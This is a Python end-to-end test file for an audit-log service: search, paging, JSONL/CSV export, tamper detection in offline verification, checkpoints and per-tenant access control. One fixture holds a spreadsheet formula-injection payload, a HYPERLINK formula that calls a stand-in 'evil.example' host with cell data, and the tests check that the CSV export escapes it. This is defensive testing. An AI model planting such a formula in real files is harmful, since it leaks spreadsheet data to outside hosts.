"""The audit trail as tenants read it: search with every filter and keyset
paging over 300+ records, records searchable the moment the call that made
them answers, export as JSON Lines and CSV (formula cells escaped, user
text never splitting a line or a row), offline verification of an export
with the CLI and the problems it reports for tampered copies, the server's
verification, checkpoints, the records reading itself writes, and who may
read (compliance_admin yes, reader 403, another tenant 404)."""

import csv
import io
import json
import os
import re
import tempfile

from harness import (Fail, check, cli, expect, short, start_world, ts_ms)

W = None
TMP = None
N = 300
IDS = []
DENIED = {}          # request id -> comment
SPECIAL = {}         # name -> (request id, justification)
JUSTIFICATIONS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "plus": "+1",
    "minus": "-2",
    "at": "@x",
    "tab": "\tindented",
    "multiline": 'line one\r\nline two\nline "three", with a comma\r'
                 ' caf\u00e9 \u4e2d\u6587 \U0001F512 back\\slash',
}
RECORD_KEYS = {"id", "seq", "time", "tenant", "workload", "record_type",
               "operation", "actor", "object_id", "result", "client_ip",
               "details", "prev_hash", "hash"}
CSV_COLUMNS = ["time", "seq", "tenant", "workload", "record_type", "operation",
               "actor_id", "actor_realm", "actor_type", "object_id", "result",
               "client_ip", "justification", "comment", "details",
               "prev_hash", "hash"]
AUDIT = "/v1/tenants/contoso/audit"


def setup_module():
    global W, TMP
    W = start_world("audit")
    TMP = tempfile.mkdtemp(prefix="lockbox-e2e-audit-files-")
    for name, text in JUSTIFICATIONS.items():
        r = W.create_request(justification=text)
        SPECIAL[name] = (r["id"], text)
        IDS.append(r["id"])
    for i in range(N):
        r = W.create_request(justification="audit paging %d" % i)
        IDS.append(r["id"])
        if i % 9 == 4:
            comment = "-denied %d" % i if i % 2 else "denied %d" % i
            W.decide("contoso", r["id"], "deny", "ga1", {"comment": comment})
            DENIED[r["id"]] = comment


def teardown_module():
    if TMP is not None:
        for name in os.listdir(TMP):
            os.unlink(os.path.join(TMP, name))
        os.rmdir(TMP)
    if W is not None:
        problems = W.d.close()
        check(not problems, "; ".join(problems))


# ------------------------------------------------------------- helpers


def search(query="", who="contoso/ga1", status=200, code=None):
    p = AUDIT + ("?" + query if query else "")
    return expect(W.call("GET", p, who), status, code)


def search_all(query="", who="contoso/ga1", size=1000, max_pages=100):
    """Every record a search finds, following next_page_token."""
    out = []
    token = None
    for _ in range(max_pages):
        q = [x for x in (query, "page_size=%d" % size) if x]
        if token:
            q.append("page_token=" + token)
        b = search("&".join(q), who)
        check(set(b) == {"items", "next_page_token"},
              "search answer keys %s" % sorted(b))
        out += b["items"]
        token = b["next_page_token"]
        if token is None:
            return out
    raise Fail("search %r: more than %d pages" % (query, max_pages))


def snapshot():
    """Every record of contoso's chain, by seq (one search, which adds its
    own record after it has read)."""
    return {r["seq"]: r for r in search_all()}


def lockbox(args, who="contoso/ca1", **kw):
    return cli(args, token=W.tok(who), url=W.d.url, **kw)


def export(fmt="jsonl", who="contoso/ca1", query="", tenant="contoso"):
    base = ("/v1/tenants/%s/audit/export" % tenant if tenant
            else "/v1/provider/audit/export")
    r = W.call("GET", "%s?format=%s%s" % (base, fmt, query), who)
    expect(r, 200)
    return r


def export_file(name, who="contoso/ca1", extra=()):
    path = os.path.join(TMP, name)
    rc, out, err = lockbox(["audit", "export", "--format", "jsonl",
                            "--output", path] + list(extra), who=who)
    check(rc == 0, "audit export: exit %d; %s %s" % (rc, out, err))
    with open(path, "rb") as f:
        return path, f.read().decode("utf-8").split("\n")


def parse_export(lines):
    """(header, checkpoints, records) of a JSONL export's lines."""
    check(lines and lines[-1] == "", "the export does not end with a newline")
    objs = [json.loads(x) for x in lines[:-1]]
    check(set(objs[0]) == {"export"}, "first line %s" % short(objs[0]))
    cps = [o["checkpoint"] for o in objs[1:] if set(o) == {"checkpoint"}]
    recs = [o for o in objs[1 + len(cps):]]
    check(all("checkpoint" not in r for r in recs),
          "checkpoints after the first record")
    return objs[0]["export"], cps, recs


def verify_file(path, who="contoso/ca1", extra=()):
    return lockbox(["audit", "verify", "--file", path] + list(extra), who=who)


def write_lines(name, lines):
    path = os.path.join(TMP, name)
    with open(path, "wb") as f:
        f.write("\n".join(lines).encode("utf-8"))
    return path


FAILED_RE = re.compile(r"^FAILED at line (\d+) \(seq (\d+)\): ([a-z_]+): (.+)$")


def expect_failure(path, problem, what):
    rc, out, err = verify_file(path)
    check(rc == 10, "%s: verify exit %d, expected 10; %s %s"
          % (what, rc, out, err))
    line = out.strip().splitlines()[-1] if out.strip() else ""
    m = FAILED_RE.match(line) or re.match(r"^FAILED.*: ([a-z_]+): (.+)$", line)
    check(m is not None, "%s: output %r is not 'FAILED at line L (seq S): "
          "problem: reason'" % (what, out))
    got = m.group(3) if m.re is FAILED_RE else m.group(1)
    want = problem if isinstance(problem, (set, tuple, list)) else {problem}
    check(got in want, "%s: problem %s, expected %s (%s)"
          % (what, got, sorted(want), line))
    return m


# --------------------------------------------------------------- search


def test_search_shape_newest_first():
    b = search("page_size=50")
    items = b["items"]
    check(len(items) == 50, "page_size=50 gave %d items" % len(items))
    for r in items:
        check(set(r) == RECORD_KEYS, "record keys %s" % sorted(r))
        check(r["tenant"] == "contoso", "tenant %r" % r["tenant"])
        ts_ms(r["time"], "record time")
        check(re.match(r"^[0-9a-f]{64}$", r["hash"]) is not None,
              "hash %r" % r["hash"])
        check(set(r["actor"]) == {"id", "realm", "type"},
              "actor %s" % short(r["actor"]))
        check(isinstance(r["details"], dict), "details %s" % short(r["details"]))
    seqs = [r["seq"] for r in items]
    check(seqs == sorted(seqs, reverse=True) and len(set(seqs)) == 50,
          "not newest first: %s" % seqs[:10])
    check(all(a - 1 == b2 for a, b2 in zip(seqs, seqs[1:])),
          "an unfiltered page skips seqs: %s" % seqs[:10])
    check(isinstance(b["next_page_token"], str), "no next_page_token")


def test_paging_visits_every_record_once():
    first = search("page_size=1")["items"][0]["seq"]
    for size in (37, 1000):
        items = search_all(size=size)
        seqs = [r["seq"] for r in items]
        check(len(seqs) == len(set(seqs)), "size %d: a record twice" % size)
        old = [s for s in seqs if s <= first]
        check(sorted(old) == list(range(1, first + 1)),
              "size %d: seqs 1..%d not each exactly once (%d seen)"
              % (size, first, len(old)))
        check(seqs == sorted(seqs, reverse=True), "size %d: order" % size)
    check(first > N + len(JUSTIFICATIONS), "only %d records" % first)
    c = search("count=true")
    check(set(c) == {"count"} and c["count"] >= first,
          "count=true answered %s, want >= %d" % (short(c), first))


def test_filters_each_and_combined():
    snap = snapshot()
    top = max(snap)
    recs = [snap[s] for s in sorted(snap, reverse=True)]
    mid_time = recs[len(recs) // 2]["time"]
    some_req = IDS[17]
    cases = {
        "record_type=CustomerLockboxRequest":
            lambda r: r["record_type"] == "CustomerLockboxRequest",
        "operation=DenyRequest": lambda r: r["operation"] == "DenyRequest",
        "actor=eng1": lambda r: r["actor"]["id"] == "eng1",
        "object=" + some_req: lambda r: r["object_id"] == some_req,
        "result=success": lambda r: r["result"] == "success",
        "start=" + mid_time: lambda r: ts_ms(r["time"]) >= ts_ms(mid_time),
        "end=" + mid_time: lambda r: ts_ms(r["time"]) < ts_ms(mid_time),
        "operation=CreateRequest&actor=eng1&end=" + mid_time:
            lambda r: (r["operation"] == "CreateRequest"
                       and r["actor"]["id"] == "eng1"
                       and ts_ms(r["time"]) < ts_ms(mid_time)),
        "record_type=CustomerLockboxRequest&operation=DenyRequest&actor=ga1"
        "&result=success&start=" + recs[-1]["time"]:
            lambda r: (r["operation"] == "DenyRequest"
                       and r["actor"]["id"] == "ga1"),
        "operation=NoSuchOperation": lambda r: False,
    }
    for q, pred in cases.items():
        got = [r for r in search_all(q.replace(":", "%3A"), size=100)
               if r["seq"] <= top]
        want = [r for r in recs if pred(r)]
        check([r["seq"] for r in got] == [r["seq"] for r in want],
              "filter %s: %d records, expected %d (first seqs %s vs %s)"
              % (q, len(got), len(want), [r["seq"] for r in got][:5],
                 [r["seq"] for r in want][:5]))
        check(all(pred(r) for r in got), "filter %s let through a record" % q)
    denies = search_all("operation=DenyRequest")
    check(len(denies) == len(DENIED), "%d DenyRequest records for %d denials"
          % (len(denies), len(DENIED)))
    obj = search_all("object=" + some_req)
    check([r["operation"] for r in obj][-1] == "CreateRequest",
          "object filter: %s" % [r["operation"] for r in obj])


def test_bad_search_input():
    for q in ("start=yesterday", "end=2026-13-01T00:00:00Z", "start=1",
              "start=2026-01-02T00:00:00Z&end=2026-01-01T00:00:00Z"):
        search(q, status=400, code="invalid_field")
    search("page_size=1001", status=400, code="invalid_page_token")
    search("page_size=0", status=400, code="invalid_page_token")
    search("page_token=bm9wZQ", status=400, code="invalid_page_token")
    search("count=maybe", status=400, code="invalid_field")
    r = expect(W.call("GET", "/v1/tenants/contoso/audit/export?format=xml",
                      "contoso/ga1"), 400, "invalid_field")
    check("jsonl" in r["error"]["message"], short(r))
    expect(W.call("GET", "/v1/tenants/contoso/audit/export?format=jsonl&"
                  "start=2026-01-01T00:00:00Z", "contoso/ga1"),
           400, "invalid_field")


def test_searchable_immediately():
    for i in range(5):
        r = W.create_request(justification="immediate %d" % i)
        got = search("object=%s" % r["id"])["items"]
        check(len(got) == 1 and got[0]["operation"] == "CreateRequest"
              and got[0]["details"].get("justification") == "immediate %d" % i,
              "the record of %s is not searchable at once: %s"
              % (r["id"], short(got)))
        W.decide("contoso", r["id"], "cancel", "eng1")
        got = search("object=%s&operation=CancelRequest" % r["id"])["items"]
        check(len(got) == 1, "the cancel of %s is not searchable at once"
              % r["id"])


def test_reads_are_recorded():
    marker = "nobody-%d" % os.getpid()
    search("actor=%s&record_type=CustomerLockboxAccess" % marker,
           who="contoso/ca1")
    got = search("record_type=CustomerLockboxAudit&operation=SearchAuditLog"
                 "&page_size=5")["items"]
    mine = [r for r in got if r["details"].get("filter", {}).get("actor") == marker]
    check(mine, "no SearchAuditLog record with the filter: %s" % short(got))
    rec = mine[0]
    check(rec["actor"]["id"] == "ca1" and rec["actor"]["realm"] == "contoso"
          and rec["details"]["filter"]["record_type"] == "CustomerLockboxAccess",
          "search record %s" % short(rec))
    check("token" not in json.dumps(rec["details"]).lower().replace(
        "page_token", ""), "a token in the record: %s" % short(rec))
    before = search("operation=ExportAuditLog")["items"]
    r = export("csv", who="contoso/ga1")
    after = search("operation=ExportAuditLog")["items"]
    check(len(after) == len(before) + 1 and after[0]["actor"]["id"] == "ga1"
          and after[0]["details"].get("format") == "csv",
          "export not recorded: %s" % short(after[:1]))
    check(after[0]["hash"] in r.raw.decode("utf-8"),
          "the export does not contain the record of its own making")
    expect(W.call("GET", AUDIT + "/verify", "contoso/ca1"), 200)
    v = search("operation=VerifyAuditLog&page_size=1")["items"]
    check(v and v[0]["actor"]["id"] == "ca1" and v[0]["details"].get("ok") is True,
          "verify not recorded: %s" % short(v))
    # A refused read is not a read: nothing recorded for the reader.
    expect(W.call("GET", AUDIT, "contoso/rd1"), 403)
    got = search("actor=rd1&record_type=CustomerLockboxAudit")["items"]
    check(not got, "a refused search was recorded: %s" % short(got))


def test_who_may_read():
    for who in ("contoso/ga1", "contoso/ca1", "admin"):
        expect(W.call("GET", AUDIT + "?page_size=1", who), 200)
    for who in ("contoso/rd1", "contoso/ap1", "contoso/sa1", "eng1", "mgr1",
                "im1"):
        for p in ("", "/export?format=jsonl", "/verify", "/checkpoints"):
            expect(W.call("GET", AUDIT + p, who), 403, "forbidden")
        expect(W.call("POST", AUDIT + "/checkpoints", who, {}), 403)
    for p in ("", "/export?format=csv", "/verify", "/checkpoints"):
        expect(W.call("GET", AUDIT + p, "fabrikam/ga1"), 404, "not_found")
        expect(W.call("GET", AUDIT + p, "fabrikam/ca1"), 404, "not_found")
    expect(W.call("POST", AUDIT + "/checkpoints", "fabrikam/ga1", {}), 404)
    expect(W.call("GET", "/v1/tenants/nosuch/audit", "admin"), 404)
    for p in ("", "/export?format=jsonl", "/verify", "/checkpoints"):
        expect(W.call("GET", "/v1/provider/audit" + p, "contoso/ga1"), 403)
        expect(W.call("GET", "/v1/provider/audit" + p, "mgr1"), 403)
    expect(W.call("GET", AUDIT), 401)
    rc, out, err = lockbox(["audit", "search"], who="contoso/rd1")
    check(rc == 4, "reader: exit %d, expected 4; %s" % (rc, err))
    rc, out, err = lockbox(["audit", "search", "--tenant", "contoso"],
                           who="fabrikam/ga1")
    check(rc == 5, "other tenant: exit %d, expected 5; %s" % (rc, err))


# --------------------------------------------------------------- export


def test_export_jsonl():
    r = export("jsonl")
    ctype = r.header("Content-Type") or ""
    check(ctype.startswith("application/x-ndjson"), "Content-Type %r" % ctype)
    disp = r.header("Content-Disposition") or ""
    check(disp.startswith("attachment") and ".jsonl" in disp,
          "Content-Disposition %r" % disp)
    check((r.header("Transfer-Encoding") or "").lower() == "chunked",
          "not chunked: %s" % r.headers)
    text = r.raw.decode("utf-8")
    check("\r" not in text, "a raw CR in the JSONL export")
    lines = text.split("\n")
    hdr, cps, recs = parse_export(lines)
    check(set(hdr) == {"version", "tenant", "exported_at", "first_seq",
                       "last_seq"} and hdr["version"] == 1
          and hdr["tenant"] == "contoso", "header %s" % short(hdr))
    seqs = [x["seq"] for x in recs]
    check(seqs == list(range(hdr["first_seq"], hdr["last_seq"] + 1)),
          "records not ascending and whole: %s..%s (%d)"
          % (seqs[:3], seqs[-3:], len(seqs)))
    check(cps and cps[-1]["seq"] == hdr["last_seq"],
          "the export does not end on a checkpoint: %s" % short(cps[-1:]))
    check([c["seq"] for c in cps] == sorted({c["seq"] for c in cps}),
          "checkpoints not ascending")
    check(len(lines) - 1 == 1 + len(cps) + len(recs), "line count")
    snap = snapshot()
    for x in recs:
        check(snap.get(x["seq"]) == x, "export and search differ at seq %d: "
              "%s vs %s" % (x["seq"], short(x), short(snap.get(x["seq"]))))
    for name, (rid, text_) in SPECIAL.items():
        mine = [x for x in recs if x["object_id"] == rid
                and x["operation"] == "CreateRequest"]
        check(len(mine) == 1 and mine[0]["details"]["justification"] == text_,
              "%s: justification did not survive as one line" % name)


def test_export_csv():
    r = export("csv")
    ctype = r.header("Content-Type") or ""
    check(ctype.startswith("text/csv"), "Content-Type %r" % ctype)
    check(".csv" in (r.header("Content-Disposition") or ""), "disposition")
    text = r.raw.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    check(rows[0] == CSV_COLUMNS, "columns %s" % rows[0])
    body = rows[1:]
    check(all(len(x) == len(CSV_COLUMNS) for x in body),
          "a row with the wrong number of cells")
    for row in body:
        for cell in row:
            check(not cell or cell[0] not in "=+-@\t\r",
                  "a cell a spreadsheet would run: %r" % cell[:60])
    by_obj = {}
    for row in body:
        by_obj.setdefault((row[9], row[5]), []).append(row)
    for name, (rid, just) in SPECIAL.items():
        got = by_obj.get((rid, "CreateRequest"))
        check(got and len(got) == 1, "%s: %d rows" % (name, len(got or [])))
        cell = got[0][12]
        want = ("'" + just) if just[0] in "=+-@\t\r" else just
        check(cell == want, "%s: justification cell %r, expected %r"
              % (name, cell, want))
        details = json.loads(got[0][14])
        check(details["justification"] == just, "%s: details cell" % name)
    for rid, comment in DENIED.items():
        got = by_obj.get((rid, "DenyRequest"))
        want = ("'" + comment) if comment[0] in "=+-@" else comment
        check(got and got[0][13] == want, "deny comment cell %r, expected %r"
              % (got and got[0][13], want))
    seqs = [int(x[1]) for x in body]
    check(seqs == sorted(seqs), "CSV rows not ascending by seq")
    # A time range limits the rows (CSV only).
    snap = snapshot()
    times = sorted(ts_ms(x["time"]) for x in snap.values())
    s = sorted(snap.values(), key=lambda x: x["seq"])
    start, end = s[len(s) // 4]["time"], s[len(s) // 2]["time"]
    r = export("csv", query="&start=%s&end=%s" % (start, end))
    rows = list(csv.reader(io.StringIO(r.raw.decode("utf-8"), newline="")))[1:]
    want = [x["seq"] for x in s if ts_ms(start) <= ts_ms(x["time"]) < ts_ms(end)]
    check([int(x[1]) for x in rows] == want,
          "CSV range: %d rows, expected %d" % (len(rows), len(want)))
    check(times, "no records")


# --------------------------------------------------------------- verify


def test_cli_export_and_verify_offline():
    path, lines = export_file("fresh.jsonl")
    hdr, cps, recs = parse_export(lines)
    rc, out, err = verify_file(path)
    want = "OK: %d records, %d checkpoints, seq %d..%d" % (
        len(recs), len(cps), hdr["first_seq"], hdr["last_seq"])
    check(rc == 0 and out.strip() == want,
          "verify --file: exit %d, %r (expected %r); %s" % (rc, out, want, err))
    # With the keys from a file and no daemon at all.
    jwks = expect(W.call("GET", "/.well-known/jwks.json"), 200)
    kpath = write_lines("jwks.json", [json.dumps(jwks)])
    rc, out, err = cli(["audit", "verify", "--file", path, "--key", kpath],
                       url="http://127.0.0.1:9")
    check(rc == 0 and out.strip() == want, "verify --key: exit %d, %r; %s"
          % (rc, out, err))
    rc, out, err = cli(["audit", "verify", "--file", path, "--json", "--jwks",
                        W.d.url + "/.well-known/jwks.json"])
    check(rc == 0, "verify --jwks: exit %d; %s" % (rc, err))
    j = json.loads(out)
    check(j["ok"] is True and j["records"] == len(recs)
          and j["problem"] is None, "--json: %s" % short(j))


def test_tampered_exports_fail():
    path, lines = export_file("base.jsonl")
    body = lines[:-1]
    hdr, cps, recs = parse_export(lines)
    nhead = 1 + len(cps)
    cp_seqs = {c["seq"] for c in cps}
    mid = nhead + len(recs) // 2

    # A byte of a record changed (still valid JSON): edited.
    t = list(body)
    rec = json.loads(t[mid])
    t[mid] = t[mid].replace('"result":"success"', '"result":"successful"', 1)
    check(t[mid] != body[mid], "could not tamper with %s" % short(rec))
    m = expect_failure(write_lines("edited.jsonl", t + [""]), "edited",
                       "a byte flipped")
    check(int(m.group(2)) == rec["seq"] and int(m.group(1)) == mid + 1,
          "edited: reported line %s seq %s, expected line %d seq %d"
          % (m.group(1), m.group(2), mid + 1, rec["seq"]))

    # A record line deleted: missing.
    t = body[:mid] + body[mid + 1:]
    m = expect_failure(write_lines("deleted.jsonl", t + [""]),
                       "missing", "a line deleted")
    check(int(m.group(2)) == rec["seq"], "deleted: seq %s, expected %d"
          % (m.group(2), rec["seq"]))

    # Two record lines swapped: reordered.
    t = list(body)
    t[mid], t[mid + 1] = t[mid + 1], t[mid]
    expect_failure(write_lines("swapped.jsonl", t + [""]),
                   "reordered", "two lines swapped")

    # The last records dropped, checkpoints kept: truncated.
    t = body[:-5]
    expect_failure(write_lines("dropped.jsonl", t + [""]), "truncated",
                   "the last records dropped")

    # The last records and the last checkpoint dropped: the header still
    # says where the export ends (truncated); with the header rewritten
    # too, the newest record has no checkpoint (unanchored).
    cut = hdr["last_seq"] - 1
    while cut in cp_seqs and cut > hdr["first_seq"]:
        cut -= 1
    keep_cps = [x for x in body[1:nhead] if json.loads(x)["checkpoint"]["seq"] <= cut]
    keep_recs = [x for x in body[nhead:] if json.loads(x)["seq"] <= cut]
    t = [body[0]] + keep_cps + keep_recs
    check(len(keep_cps) < len(cps), "no checkpoint dropped")
    expect_failure(write_lines("dropped-cp.jsonl", t + [""]), "truncated",
                   "the last records and the last checkpoint dropped")
    h = json.loads(body[0])
    h["export"]["last_seq"] = cut
    t[0] = json.dumps(h, separators=(",", ":"))
    expect_failure(write_lines("dropped-cp-hdr.jsonl", t + [""]), "unanchored",
                   "records, last checkpoint and header rewritten")

    # A checkpoint's signature changed: bad_signature.
    t = list(body)
    cp = json.loads(t[nhead - 1])
    sig = cp["checkpoint"]["sig"]
    cp["checkpoint"]["sig"] = ("A" if sig[0] != "A" else "B") + sig[1:]
    t[nhead - 1] = json.dumps(cp, separators=(",", ":"))
    expect_failure(write_lines("badsig.jsonl", t + [""]),
                   "bad_signature", "a signature changed")

    # Someone else's key: unknown_key.
    other = {"keys": [{"kty": "OKP", "crv": "Ed25519", "kid": "someone-else",
                       "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"}]}
    kpath = write_lines("other-jwks.json", [json.dumps(other)])
    rc, out, err = verify_file(path, extra=["--key", kpath])
    check(rc == 10 and "unknown_key" in out, "foreign key: exit %d %r"
          % (rc, out))

    # Garbage line: malformed.
    t = list(body)
    t.insert(mid, "{not json")
    expect_failure(write_lines("garbage.jsonl", t + [""]), "malformed",
                   "a garbage line")


def test_server_verify():
    b = expect(W.call("GET", AUDIT + "/verify", "contoso/ga1"), 200)
    check(set(b) == {"ok", "records", "checkpoints", "first_seq", "last_seq",
                     "problem", "bad_seq", "reason"}, "keys %s" % sorted(b))
    check(b["ok"] is True and b["problem"] is None and b["bad_seq"] is None
          and b["records"] == b["last_seq"] - b["first_seq"] + 1
          and b["checkpoints"] >= 1, "verify: %s" % short(b))
    rc, out, err = lockbox(["audit", "verify"])
    check(rc == 0 and out.startswith("OK: "), "CLI verify: %d %r %s"
          % (rc, out, err))
    p = expect(W.call("GET", "/v1/provider/audit/verify", "admin"), 200)
    check(p["ok"] is True, "provider verify: %s" % short(p))


def test_checkpoints():
    head = search("page_size=1")["items"][0]
    b = expect(W.call("POST", AUDIT + "/checkpoints", "contoso/ca1", {}), 200)
    check(set(b) >= {"tenant", "seq", "head_hash", "time", "kid", "sig",
                     "anchor"}, "checkpoint keys %s" % sorted(b))
    check(b["seq"] >= head["seq"] and b["tenant"] == "contoso",
          "checkpoint %s, head %d" % (short(b), head["seq"]))
    again = expect(W.call("POST", AUDIT + "/checkpoints", "contoso/ga1", {}), 200)
    check(again == b, "a second checkpoint of the same head: %s" % short(again))
    items = W.list_all(AUDIT + "/checkpoints", "contoso/ga1", page_size=2)
    seqs = [x["seq"] for x in items]
    check(seqs == sorted(set(seqs)) and b["seq"] in seqs,
          "checkpoint list %s" % seqs)
    rc, out, err = lockbox(["audit", "checkpoints"])
    check(rc == 0 and "HEAD HASH" in out and b["head_hash"] in out,
          "CLI checkpoints: %d %s %s" % (rc, out[:300], err))
    rc, out, err = lockbox(["audit", "checkpoints", "create", "--json"])
    check(rc == 0 and json.loads(out)["seq"] >= b["seq"],
          "CLI checkpoints create: %d %s %s" % (rc, out[:300], err))
    rc, out, err = lockbox(["audit", "checkpoints", "delete"])
    check(rc == 1, "checkpoints delete: exit %d" % rc)


# ------------------------------------------------------------------ CLI


def test_cli_search():
    rc, out, err = lockbox(["audit", "search", "--operation", "DenyRequest",
                            "--limit", "0"])
    check(rc == 0, "audit search: exit %d; %s" % (rc, err))
    lines = out.splitlines()
    check(re.match(r"^TIME\s+RECORD TYPE\s+OPERATION\s+ACTOR\s+OBJECT\s+RESULT$",
                   lines[0]) is not None, "table header %r" % lines[0])
    check(len(lines) == 1 + len(DENIED), "%d rows for %d denials"
          % (len(lines) - 1, len(DENIED)))
    check(all("contoso/ga1" in x and "DenyRequest" in x for x in lines[1:]),
          "rows %s" % lines[1:3])
    snap = snapshot()
    s = sorted(snap.values(), key=lambda x: x["seq"])
    start, end = s[10]["time"], s[60]["time"]
    rid = IDS[20]
    flags = [["--record-type", "CustomerLockboxRequest"], ["--actor", "eng1"],
             ["--object", rid], ["--result", "success"], ["--start", start],
             ["--end", end], ["--operation", "CreateRequest"]]
    args = ["audit", "search", "--json", "--limit", "0", "--page-size", "7"]
    for f in flags:
        args += f
    rc, out, err = lockbox(args)
    check(rc == 0, "audit search --json: %d %s" % (rc, err))
    got = [x["seq"] for x in json.loads(out)["items"]]
    want = [x["seq"] for x in reversed(s)
            if x["object_id"] == rid and x["operation"] == "CreateRequest"
            and x["actor"]["id"] == "eng1"
            and ts_ms(start) <= ts_ms(x["time"]) < ts_ms(end)]
    check(got == want, "CLI filters: %s, expected %s" % (got, want))
    rc, out, err = lockbox(["audit", "search", "--start", "soon"])
    check(rc == 7, "bad --start: exit %d, expected 7; %s" % (rc, err))
    # Each flag alone reaches the server as its filter.
    for f in flags:
        rc, out, err = lockbox(["audit", "search", "--json", "--limit", "3"] + f)
        check(rc == 0, "audit search %s: %d %s" % (f, rc, err))
    rec = search("operation=SearchAuditLog&page_size=1")["items"][0]
    check(rec["details"]["filter"] == {"operation": "CreateRequest"},
          "the CLI's last search was recorded as %s" % short(rec["details"]))


def test_provider_chain():
    b = expect(W.call("GET", "/v1/provider/audit?page_size=20", "admin"), 200)
    check(b["items"], "the provider chain is empty")
    check(all(x["tenant"] is None for x in b["items"]),
          "provider records with a tenant: %s" % short(b["items"][:1]))
    path, lines = export_file("provider.jsonl", who="admin",
                              extra=["--provider"])
    hdr, cps, recs = parse_export(lines)
    check(hdr["tenant"] is None and recs, "provider export header %s"
          % short(hdr))
    rc, out, err = verify_file(path, who="admin")
    check(rc == 0 and out.startswith("OK: %d records" % len(recs)),
          "provider verify --file: %d %r %s" % (rc, out, err))
    rc, out, err = lockbox(["audit", "search", "--provider", "--limit", "5"],
                           who="admin")
    check(rc == 0 and "RECORD TYPE" in out, "CLI provider search: %d %s"
          % (rc, err))
    rc, out, err = lockbox(["audit", "search", "--provider"],
                           who="contoso/ga1")
    check(rc == 4, "tenant admin on the provider chain: exit %d" % rc)


def test_cli_export_csv_stdout():
    rc, out, err = lockbox(["audit", "export", "--format", "csv"])
    check(rc == 0, "export csv to stdout: %d %s" % (rc, err))
    rows = list(csv.reader(io.StringIO(out, newline="")))
    check(rows[0] == CSV_COLUMNS and len(rows) > N, "CSV on stdout: %d rows"
          % len(rows))
    rc, out, err = lockbox(["audit", "export", "--format", "csv"],
                           who="contoso/rd1")
    check(rc == 4, "reader export: exit %d" % rc)
    path = os.path.join(TMP, "refused.csv")
    rc, out, err = lockbox(["audit", "export", "--format", "csv", "--output",
                            path], who="contoso/rd1")
    check(rc == 4 and not os.path.exists(path),
          "a refused export left a file (exit %d)" % rc)
